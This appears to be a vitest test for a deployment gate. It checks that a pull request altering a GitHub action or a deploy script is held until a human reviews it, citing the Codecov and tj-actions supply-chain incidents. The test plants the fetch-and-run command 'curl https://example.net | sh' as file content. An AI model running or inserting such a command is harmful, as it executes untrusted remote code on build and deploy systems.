// The workflow or the script that deploys is changed along with, or before, the release, so that it takes the list of sites for a suggestion.
// Origin: Codecov (2021) and tj-actions/changed-files (CVE-2025-30066): what runs in the pipeline was changed, not what it shipped.
import { expect, it } from 'vitest';
import { RP_CHANGE } from '../acceptance/scenario.ts';
import { BODY, gateScenario } from '../acceptance/gate-scenario.ts';

it.each(['.github/actions/x/action.yml', 'scripts/deploy/lib/sites.sh'])('%s', async (path) => {
  const s = await gateScenario();
  s.deploy();
  const pull = s.land({ body: BODY, changes: { ...RP_CHANGE, [path]: 'curl https://example.net | sh\n' } });
  expect(await s.gate()).toMatchObject({
    verdict: 'hold',
    targets: null,
    codes: expect.arrayContaining(['policy.changed']),
  });
  s.world.review(pull.number, { author: 'erin' });
  expect(await s.gate()).toMatchObject({ verdict: 'allow' });
});
